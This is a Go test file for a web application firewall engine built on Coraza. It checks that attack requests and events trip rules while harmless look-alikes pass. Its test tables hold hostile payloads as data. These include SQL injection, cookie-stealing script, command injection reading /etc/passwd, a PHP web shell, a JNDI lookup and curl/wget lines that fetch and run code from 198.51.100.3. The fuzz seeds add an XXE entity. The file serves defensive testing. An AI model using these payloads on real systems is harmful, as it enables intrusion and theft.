package coraza

import (
	"bytes"
	"context"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"

	"redoubt.dev/redoubt/internal/fault"
	"redoubt.dev/redoubt/internal/route"
	"redoubt.dev/redoubt/internal/waf"
)

// engine is compiled once for all tests, as in a gateway.
var engine = sync.OnceValues(func() (*Engine, error) { return New(Config{}) })

func open(t testing.TB) *Engine {
	t.Helper()
	e, err := engine()
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func request(method, uri, kind, body string) *waf.Request {
	r := &waf.Request{Method: method, URI: uri, Proto: "HTTP/1.1", Host: "shop.example.com", Remote: netip.MustParseAddrPort("192.0.2.7:4711"),
		Header: []waf.Field{{Name: "User-Agent", Value: "Mozilla/5.0"}, {Name: "Accept", Value: "*/*"}}, Body: []byte(body)}
	if kind != "" {
		r.Header = append(r.Header, waf.Field{Name: "Content-Type", Value: kind})
	}
	return r
}

func get(query string) *waf.Request {
	return request("GET", "/search?q="+url.QueryEscape(query), "", "")
}

func inspect(t testing.TB, r *waf.Request) *waf.Verdict {
	t.Helper()
	v, err := open(t).Inspect(context.Background(), r)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func classes(v *waf.Verdict) []waf.Class {
	var out []waf.Class
	for _, f := range v.Findings {
		out = append(out, f.Class)
	}
	return out
}

const form, plainJSON = "application/x-www-form-urlencoded", "application/json"

func TestW1_W21_AttacksTripAndHonestNeighboursPass(t *testing.T) {
	for name, c := range map[string]struct {
		attack, honest *waf.Request
		class          waf.Class
	}{
		"SQL injection":             {get("1' OR '1'='1"), get("O'Brien"), waf.SQLInjection},
		"SQL union":                 {get("1 UNION SELECT password FROM users--"), get("please select a seat from the union square list"), waf.SQLInjection},
		"SQL in JSON":               {request("POST", "/orders", plainJSON, `{"items":[{"name":"x' UNION SELECT 1,2 FROM users-- -"}]}`), request("POST", "/orders", plainJSON, `{"items":[{"name":"select","note":"Mc'Donald & O'Brien"}]}`), waf.SQLInjection},
		"JSON that says it is text": {request("POST", "/orders", "text/plain", `{"name":"x' UNION SELECT 1,2 FROM users-- -"}`), request("POST", "/orders", "text/plain", `{"name":"O'Brien"}`), waf.SQLInjection},
		"scripting":                 {get("<script>alert(document.cookie)</script>"), get("script for a play, act 1"), waf.Scripting},
		"command":                   {request("POST", "/convert", form, "file="+url.QueryEscape("a.png; cat /etc/passwd")), request("POST", "/convert", form, "file="+url.QueryEscape("my cat; a photo.png")), waf.Command},
		"local file":                {get("../../../../etc/passwd"), get("docs/guide/index"), waf.LocalFile},
		"remote file":               {get("http://198.51.100.3/shell.txt?"), get("see example.com for the text"), waf.RemoteFile},
		"PHP":                       {get("<?php system($_GET['c']); ?>"), get("php conference 2026"), waf.PHP},
		"Java":                      {request("POST", "/login", plainJSON, `{"user":"${jndi:ldap://198.51.100.3/a}"}`), request("POST", "/login", plainJSON, `{"user":"jndi fan"}`), waf.Java},
		"template code":             {get("{{constructor.constructor('return process')().exit()}} require('child_process').exec('id')"), get("constructor of bridges"), waf.Code},
		"multipart name":            {multipartRequest("../../etc/passwd", "hello"), multipartRequest("photo of me.png", "hello"), waf.LocalFile},
		"multipart field":           {multipartRequest("a.png", "1' OR '1'='1"), multipartRequest("a.png", "O'Brien"), waf.SQLInjection},
	} {
		t.Run(name, func(t *testing.T) {
			v := inspect(t, c.attack)
			if v.Action != waf.Alert || !strings.Contains(strings.Join(names(v), " "), string(c.class)) {
				t.Errorf("the attack got %s, %d points, %v", v.Action, v.Score, classes(v))
			}
			if v := inspect(t, c.honest); v.Action != waf.Pass {
				t.Errorf("the honest request tripped: %+v", v.Findings)
			}
		})
	}
}

func names(v *waf.Verdict) []string {
	var out []string
	for _, c := range classes(v) {
		out = append(out, string(c))
	}
	return out
}

func multipartRequest(file, field string) *waf.Request {
	body := "--xx\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"" + file + "\"\r\nContent-Type: image/png\r\n\r\n\x89PNG' OR 1=1\r\n" +
		"--xx\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n" + field + "\r\n--xx--\r\n"
	return request("POST", "/photos", "multipart/form-data; boundary=xx", body)
}

func TestW21_EventsPassTheSameRules(t *testing.T) {
	for name, c := range map[string]struct{ attack, honest string }{
		"key of an object":  {`{"Records":[{"s3":{"object":{"key":"photos/%24%28curl+http%3A%2F%2F198.51.100.3%2Fx%7Csh%29.png","size":3}}}]}`, `{"Records":[{"s3":{"object":{"key":"photos/O%27Brien+at+sea.png","size":3}}}]}`},
		"sensor's message":  {`{"sensor":"t1; wget http://198.51.100.3/x -O /tmp/x","value":21.5}`, `{"sensor":"kitchen, left","value":21.5}`},
		"not JSON":          {"x' UNION SELECT a,b FROM users-- -", "21.5 degrees, it's warm"},
		"JSON in a message": {`{"Records":[{"body":"{\"name\":\"1' OR '1'='1\"}"}]}`, `{"Records":[{"body":"{\"name\":\"O'Brien\"}"}]}`},
		"base64":            {`{"data":"eyJuYW1lIjoiMScgT1IgJzEnPScxIn0="}`, `{"data":"eyJuYW1lIjoiTydCcmllbiBhdCBzZWEifQ=="}`},
	} {
		t.Run(name, func(t *testing.T) {
			if v := inspect(t, waf.Event("queue", []byte(c.attack))); !v.Tripped() {
				t.Errorf("the attack passed with %d points", v.Score)
			}
			if v := inspect(t, waf.Event("queue", []byte(c.honest))); v.Tripped() {
				t.Errorf("the honest event tripped: %+v", v.Findings)
			}
		})
	}
}

func TestModesDecideWhatBecomesOfIt(t *testing.T) {
	for mode, want := range map[route.FirewallMode]waf.Action{"": waf.Alert, route.FirewallAlert: waf.Alert, route.FirewallPrevent: waf.Refuse, route.FirewallOff: waf.Pass} {
		r := get("1' OR '1'='1")
		r.Setting.Mode = mode
		v := inspect(t, r)
		if v.Action != want {
			t.Errorf("mode %q: %s, want %s", mode, v.Action, want)
		}
		if records := v.Records(); (len(records) > 0) != (want != waf.Pass) {
			t.Errorf("mode %q left %d records", mode, len(records))
		}
	}
}

func TestW22_AVerdictNamesItsExclusionAndTheExclusionWorks(t *testing.T) {
	r := request("POST", "/notes", plainJSON, `{"notes":["fine",{"text":"x' UNION SELECT 1 FROM users-- -"}]}`)
	r.Setting.Mode = route.FirewallPrevent
	v := inspect(t, r)
	if v.Action != waf.Refuse || len(v.Findings) == 0 || v.Findings[0].Variable != "ARGS:json.notes.1.text" {
		t.Fatalf("got %+v", v)
	}
	for _, f := range v.Findings {
		if f.Exclusion.Parameter != "ARGS:json.notes.*.text" {
			t.Errorf("rule %d offers %+v", f.Rule, f.Exclusion)
		}
		r.Setting.Exclusions = append(r.Setting.Exclusions, f.Exclusion)
	}
	if v := inspect(t, r); v.Action != waf.Pass || v.Excluded == 0 {
		t.Errorf("after the exclusions: %+v", v)
	}
	r.Body = []byte(`{"notes":[],"id":"x' UNION SELECT 1 FROM users-- -"}`)
	if v := inspect(t, r); v.Action != waf.Refuse {
		t.Errorf("the exclusion opened another parameter: %+v", v)
	}
}

func TestParanoiaAndThreshold(t *testing.T) {
	low, high := 0, 0
	for _, q := range []string{"a'b;c", "it's $5 & more", "x=1;--"} {
		r := get(q)
		low += inspect(t, r).Score
		r.Setting.Paranoia = 4
		high += inspect(t, r).Score
	}
	if high <= low {
		t.Errorf("paranoia 4 scored %d, paranoia 1 %d", high, low)
	}
	r := get("1' OR '1'='1")
	r.Setting.Threshold = 1000
	if v := inspect(t, r); v.Action != waf.Pass || len(v.Findings) == 0 {
		t.Errorf("below the threshold: %+v", v)
	}
}

func TestW14_ABodyAboveTheLimitIsSaid(t *testing.T) {
	e, err := New(Config{Body: 1 << 10})
	if err != nil {
		t.Fatal(err)
	}
	long := request("POST", "/x", plainJSON, `{"a":"`+strings.Repeat("word. ", 400)+`"}`)
	for mode, want := range map[route.FirewallMode]waf.Action{route.FirewallAlert: waf.Alert, route.FirewallPrevent: waf.Refuse} {
		long.Setting = route.Firewall{Mode: mode}
		if v, err := e.Inspect(context.Background(), long); err != nil || !v.Oversize || v.Action != want {
			t.Errorf("%s: %+v, %v", mode, v, err)
		}
	}
	long.Setting.Oversize = "pass"
	if v, err := e.Inspect(context.Background(), long); err != nil || v.Action != waf.Alert {
		t.Errorf("pass: %+v, %v", v, err)
	}
	long.Body = append([]byte(`{"b":"1' OR '1'='1",`), long.Body[1:]...)
	long.Setting.Oversize = ""
	long.Setting.Mode = route.FirewallAlert
	if v, err := e.Inspect(context.Background(), long); err != nil || v.Score == 0 {
		t.Errorf("the beginning was not judged: %+v, %v", v, err)
	}
}

func TestAnswersThatLeak(t *testing.T) {
	e := open(t)
	look := func(body string) *waf.Verdict {
		v, err := e.InspectAnswer(context.Background(), get("x"), &waf.Answer{Status: 200, Header: []waf.Field{{Name: "Content-Type", Value: "text/html"}}, Body: []byte(body)})
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	if v := look("You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version"); !v.Tripped() {
		t.Errorf("the database's error passed: %+v", v)
	}
	if v := look("<p>Your order is on its way, O'Brien.</p>"); v.Tripped() {
		t.Errorf("the honest answer tripped: %+v", v)
	}
}

func TestSecretsAreNotRepeated(t *testing.T) {
	r := request("POST", "/login", form, url.Values{"password": {"hunter2' OR '1'='1"}}.Encode())
	v := inspect(t, r)
	if !v.Tripped() {
		t.Fatal("passed")
	}
	for _, f := range v.Findings {
		if strings.Contains(f.Excerpt+f.Message, "hunter2") {
			t.Errorf("rule %d repeats the password: %s %s", f.Rule, f.Message, f.Excerpt)
		}
	}
}

func TestWaitsForAPlaceOnlyAsLongAsItMay(t *testing.T) {
	e := open(t)
	one := &Engine{rules: e.rules, body: e.body, slots: make(chan struct{}, 1)}
	one.slots <- struct{}{}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := one.Inspect(ctx, get("x")); !fault.Is(err, fault.Unavailable) {
		t.Errorf("got %v", err)
	}
}

func TestSafeForManyAtOnce(t *testing.T) {
	want := inspect(t, get("1' OR '1'='1"))
	var wg sync.WaitGroup
	for i := range 8 {
		wg.Go(func() {
			for range 10 {
				v := inspect(t, get("1' OR '1'='1"))
				if d := cmp.Diff(want, v); i%2 == 0 && d != "" {
					t.Error(d)
				}
				inspect(t, get("O'Brien"))
			}
		})
	}
	wg.Wait()
}

func FuzzInspect(f *testing.F) {
	f.Add("GET", "/a?q=1", "text/plain", []byte("x"), false)
	f.Add("POST", "/%zz\x00?%", plainJSON, []byte(`{"a":[1,{"b":"<script>"}],"a":`), true)
	f.Add("POST", "/", "multipart/form-data; boundary=xx", multipartRequest("a", "b").Body, false)
	f.Add("POST", "/", "text/xml", []byte(`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`), false)
	f.Add("POST", "/", form, []byte("a=%&&=;b[c]=1"), false)
	f.Add("POST", "/", plainJSON, bytes.Repeat([]byte("["), 5000), true)
	f.Fuzz(func(t *testing.T, method, uri, kind string, body []byte, event bool) {
		r := request(method, uri, kind, string(body))
		r.Event = event
		if v, err := open(t).Inspect(context.Background(), r); err == nil && len(v.Findings) > waf.MaxFindings {
			t.Errorf("%d findings", len(v.Findings))
		}
	})
}
